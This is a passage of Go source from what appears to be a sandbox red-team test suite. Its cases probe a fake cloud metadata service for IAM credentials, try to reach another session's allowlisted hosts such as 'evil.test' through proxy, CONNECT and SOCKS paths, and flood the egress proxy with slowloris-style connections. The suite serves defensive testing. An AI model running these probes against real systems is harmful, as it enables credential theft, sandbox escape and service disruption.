		Oracle:  "C-IMDS (the fake metadata service's secret) in the output, or the metadata service receives a byte",
		Control: "the host's GET to 169.254.169.254 in the fake internet returns C-IMDS",
		Source:  "R09: brompwnie/botb, nearform/lastlight PR#63, PrimeIntellect-ai/verifiers PR#2024",
		Run: func(ctx context.Context, e *Env) Outcome {
			e.Sh(ctx, `for t in 169.254.169.254:80 [fd00:ec2::254]:80; do "$P" redteam probe connect tcp "$t"; done; `+
				viaProxy(get("http://169.254.169.254/latest/meta-data/iam/security-credentials/cordon", "169.254.169.254"),
					get("http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal", "Metadata-Flavor: Google"),
					get("http://instance-data/latest/meta-data/", "instance-data"), get("http://meta.allowed.test/latest/meta-data/", "meta.allowed.test"),
					get("http://[fd00:ec2::254]/latest/meta-data/", "[fd00:ec2::254]"), httpReq("CONNECT", "169.254.169.254:80", "169.254.169.254:80")+get("/latest/meta-data/", "169.254.169.254"))+
				`"$P" redteam probe socks 169.254.169.254 80 latest/meta-data`)
			c := e.Host(ctx, `"$P" redteam probe tunnel direct 169.254.169.254:80 `+qarg(get("/latest/meta-data/iam/security-credentials/"+e.CT, "169.254.169.254")))
			return verdict(nil, e.leaks(c))
		},
	}
}

// netCrossCases are the X and D cases that need the fake internet.
func netCrossCases() []*Case {
	return []*Case{{
		ID: "X07", Class: Cross, Title: "another session's proxy and allowlist", Needs: NeedAPI | NeedNet,
		Probe:   "session B allows b-only.test; A (the default suite policy) asks its own proxy for b-only.test (GET, CONNECT, SOCKS5), looks for another proxy (ports 3100-3199 on its loopback, /proc/net/tcp and unix), while B is open and after B is closed",
		Oracle:  "b-only.test's server receives a byte from A",
		Control: "B reaches b-only.test with the control token",
		Source:  "X07: sandbox-runtime socks-unauthenticated-probe.test.ts, canonical-host-routing.test.ts",
		Run: func(ctx context.Context, e *Env) Outcome {
			attack := viaProxy(get("http://b-only.test/X07-"+e.Tag, "b-only.test"), httpReq("CONNECT", "b-only.test:80", "b-only.test:80")+get("/X07", "b-only.test")) +
				`"$P" redteam probe socks b-only.test 80; for p in $(seq 3100 3199); do [ $p = 3128 ] || "$P" redteam probe connect tcp 127.0.0.1:$p 2>/dev/null | grep -v '^no'; done; cat /proc/net/tcp /proc/net/unix | head -40`
			l := e.netL("203.0.113.21:80")
			m := l.mark()
			b, wsB, err := e.openControl(ctx, netPolicy([]string{"b-only.test"}))
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			e.ShIn(ctx, b, wsB, viaProxy(get("http://b-only.test/"+e.CT, "b-only.test")), 20*time.Second)
			a1 := e.Sh(ctx, attack) // concurrent
			_ = e.CloseSession(b)
			a2 := e.Sh(ctx, attack) // after B's teardown
			return verdict(append(oks(a1, contains("send")), oks(a2, contains("send"))...), e.arrived(l, m))
		},
	}, {
		ID: "X22", Class: Cross, Title: "a live allowlist widening (AllowHosts, what a net.connect grant does) reaching another session", Needs: NeedAPI | NeedNet,
		Probe:   "session B is widened with AllowHosts(evil.test); A asks for evil.test while B is open, after B is closed, and a new session A2 opened after that does too",
		Oracle:  "evil.test's server receives a byte from A or A2",
		Control: "B, widened, reaches evil.test with the control token",
		Source:  "new: grants of net.connect change only the proxy's allowlist (DESIGN.md), per session",
		Run: func(ctx context.Context, e *Env) Outcome {
			attack := viaProxy(get("http://evil.test/X22-"+e.Tag, "evil.test")) + `"$P" redteam probe tls connect evil.test:443 evil.test X22`
			l := e.netL("203.0.113.21:80")
			m := l.mark()
			b, wsB, err := e.openControl(ctx, nil)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			if err := b.AllowHosts("evil.test"); err != nil {
				return Outcome{CouldNotRun: "AllowHosts: " + err.Error()}
			}
			e.ShIn(ctx, b, wsB, viaProxy(get("http://evil.test/"+e.CT, "evil.test")), 20*time.Second)
			e.Sh(ctx, attack)
			_ = e.CloseSession(b)
			e.Sh(ctx, attack)
			a2, ws2, err := e.OpenSession(ctx, nil)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			e.ShIn(ctx, a2, ws2, attack, 20*time.Second)
			return verdict(nil, e.arrived(l, m))
		},
	}, {
		ID: "D11", Class: Denial, Title: "egress proxy flood", Needs: NeedAPI | NeedNet, FreshOnly: true,
		Probe:   "for 3 s, 64 clients ask the proxy for refused names as fast as it answers, and 64 more hold request heads open (slowloris)",
		Oracle:  "a second session's allowed request through its own proxy (GET http://allowed.test/) misses the bound, or the harness holds 64 more descriptors 1 s after the flood than before it" + boundsText,
		Control: "the flood ran: the proxy refused its requests",
		Source:  "D11: nsjail max_conns_per_ip; NVIDIA/OpenShell#1169",
		Run: func(ctx context.Context, e *Env) Outcome {
			fds0 := openFDs()
			var a Obs
			resp, busy, err := latencyOf(ctx, e, sampleCall{viaProxy(get("http://allowed.test/D11", "allowed.test")), "200 OK"}, func() {
				a = e.Sh(ctx, `"$P" redteam probe flood 3s 64`)
			})
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			if busy != "" {
				return Outcome{CouldNotRun: busy, Metrics: resp.metrics()}
			}
			bad := resp.breaches()
			time.Sleep(time.Second)
			fds1 := openFDs()
			if fds1 > fds0+64 {
				bad = append(bad, fmt.Sprintf("the harness holds %d descriptors after the flood, %d before", fds1, fds0))
			}
			var ctl []string
			for _, l := range strings.Split(a.Text, "\n") {
				if f := strings.Fields(l); len(f) >= 5 && f[0] == "flood" && f[4] != "0" {
					ctl = append(ctl, strings.TrimSpace(l))
				}
			}
			o := verdict(bad, ctl)
			o.Metrics = resp.metrics()
			o.Metrics["harness_fds"] = fmt.Sprintf("%d before, %d after", fds0, fds1)
			return o
		},
	}}
}
